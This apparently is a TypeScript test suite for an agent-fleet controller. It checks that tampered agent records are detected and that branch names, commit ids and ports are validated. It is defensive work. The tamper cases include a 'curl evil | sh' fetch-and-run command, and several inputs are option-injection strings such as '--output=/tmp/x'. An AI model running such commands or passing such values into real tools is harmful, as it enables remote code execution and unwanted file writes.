import { strict as assert } from "node:assert";
import { mkdtempSync, rmSync, statSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { after, describe, test } from "node:test";
import { serializeRecord, type AgentRecord } from "../../../src/core/host/agent-record.ts";
import { checkRecord, sealRecord } from "../../../src/core/trust/record-seal.ts";
import { recordKeyPath } from "../../../src/core/trust/record-key.ts";
import { countOf, isBranchName, isCommitId, isPort } from "../../../src/core/trust/host-values.ts";

const home = mkdtempSync(join(tmpdir(), "fleet-seal-"));
const otherHome = mkdtempSync(join(tmpdir(), "fleet-seal-other-"));
after(() => {
  rmSync(home, { recursive: true, force: true });
  rmSync(otherHome, { recursive: true, force: true });
});

function record(overrides: Partial<AgentRecord> = {}): AgentRecord {
  return {
    version: 1,
    name: "a1",
    host: "box",
    provider: "docker",
    fleet: "team",
    spec: {
      name: "a1",
      host: "box",
      agent: "command",
      command: "sleep 100",
      args: [],
      env: { A: "1" },
      secrets: ["TOKEN"],
      workdir: { from: "/src/app", branch: "fleet/a1" },
      services: [{ name: "web", command: "serve", port: "auto" }],
      labels: {},
      idleTimeout: null,
    },
    specHash: "0123456789abcdef",
    state: "running",
    createdAt: "2026-01-01T00:00:00.000Z",
    workdir: "/fleet/agents/a1/work",
    ports: {},
    ...overrides,
  };
}

const place = { dir: "a1", host: "box", home };
const text = (r: AgentRecord): string => serializeRecord(r).trim();
/** Edits the JSON as a host would, keeping the MAC it had. */
const edit = (r: AgentRecord, change: (v: AgentRecord) => void): string => {
  const value = JSON.parse(text(r)) as AgentRecord;
  change(value);
  return JSON.stringify(value);
};

describe("agent record seal", () => {
  test("a sealed record verifies, and the key file is 0600 in a 0700 dir", () => {
    const check = checkRecord(text(sealRecord(home, record())), place);
    assert.equal(check.kind, "trusted");
    assert.equal(statSync(recordKeyPath(home)).mode & 0o777, 0o600);
    assert.equal(statSync(join(home, "trust")).mode & 0o777, 0o700);
  });

  for (const [what, change] of [
    ["secrets", (v: AgentRecord) => (v.spec.secrets = ["TOKEN", "AWS_SECRET"])],
    ["workdir.from", (v: AgentRecord) => (v.spec.workdir = { from: "/root", branch: "fleet/a1" })],
    ["branch", (v: AgentRecord) => (v.spec.workdir = { from: "/src/app", branch: "main" })],
    ["command", (v: AgentRecord) => (v.spec.command = "curl evil | sh")],
    ["owner fleet", (v: AgentRecord) => (v.fleet = "other")],
    ["spec hash", (v: AgentRecord) => (v.specHash = "ffffffffffffffff")],
    ["work dir", (v: AgentRecord) => (v.workdir = "/home/user")],
  ] as const) {
    test(`an edited ${what} is TAMPERED`, () => {
      const check = checkRecord(edit(sealRecord(home, record()), change), place);
      assert.equal(check.kind, "tampered");
      if (check.kind === "tampered") assert.equal(check.error.code, "RECORD_TAMPERED");
    });
  }

  test("a record without a MAC (an older fleet's) is TAMPERED", () => {
    const check = checkRecord(text(record()), place);
    assert.equal(check.kind, "tampered");
    if (check.kind === "tampered") assert.match(check.error.message, /no signature/);
  });

  test("a record sealed by another controller's key is TAMPERED", () => {
    assert.equal(checkRecord(text(sealRecord(otherHome, record())), place).kind, "tampered");
  });

  test("a record moved to another agent's dir is TAMPERED", () => {
    const check = checkRecord(text(sealRecord(home, record())), { ...place, dir: "a2" });
    assert.equal(check.kind, "tampered");
  });

  test("a record sealed for another host is that host's, not this one's", () => {
    const check = checkRecord(text(sealRecord(home, record())), { ...place, host: "other" });
    assert.equal(check.kind, "other-host");
  });

  test("ports are outside the MAC but must be ports of the record's services", () => {
    const sealed = sealRecord(home, record());
    assert.equal(
      checkRecord(
        edit(sealed, (v) => (v.ports = { web: 8080 })),
        place,
      ).kind,
      "trusted",
    );
    for (const ports of [{ web: 0 }, { web: 70000 }, { web: "--output=/tmp/x" }, { db: 5432 }]) {
      assert.equal(
        checkRecord(
          edit(sealed, (v) => (v.ports = ports as unknown as Record<string, number>)),
          place,
        ).kind,
        "tampered",
      );
    }
  });

  test("text that is not a record is UNREADABLE", () => {
    for (const bad of ["", "{", "null", '{"version":1}', "\u0000\u0001"]) {
      assert.equal(checkRecord(bad, place).kind, "unreadable");
    }
  });
});

describe("host values", () => {
  test("commit ids are full lowercase hex", () => {
    assert.ok(isCommitId("a".repeat(40)));
    assert.ok(isCommitId("b".repeat(64)));
    for (const bad of [
      "--output=/tmp/x",
      "HEAD",
      "a".repeat(39),
      "A".repeat(40),
      `${"a".repeat(40)}\n`,
    ]) {
      assert.equal(isCommitId(bad), false, bad);
    }
  });

  test("branch names follow git check-ref-format", () => {
    for (const good of ["fleet/a1", "feature/x-1", "main"]) assert.ok(isBranchName(good), good);
    for (const bad of [
      "",
      "-x",
      "--output=/tmp/x",
      "HEAD",
      "a..b",
      "a b",
      "a~1",
      "a^",
      "a:b",
      "/a",
      "a/",
      "a.lock",
      ".a",
      "a@{1}",
      "a//b",
      "a\u0007",
    ]) {
      assert.equal(isBranchName(bad), false, bad);
    }
  });

  test("ports and counts are checked numbers", () => {
    assert.ok(isPort(1) && isPort(65535));
    assert.equal(isPort(0) || isPort(65536) || isPort(1.5), false);
    assert.equal(countOf("12"), 12);
    assert.equal(countOf("-1"), undefined);
    assert.equal(countOf("1e9"), undefined);
  });
});
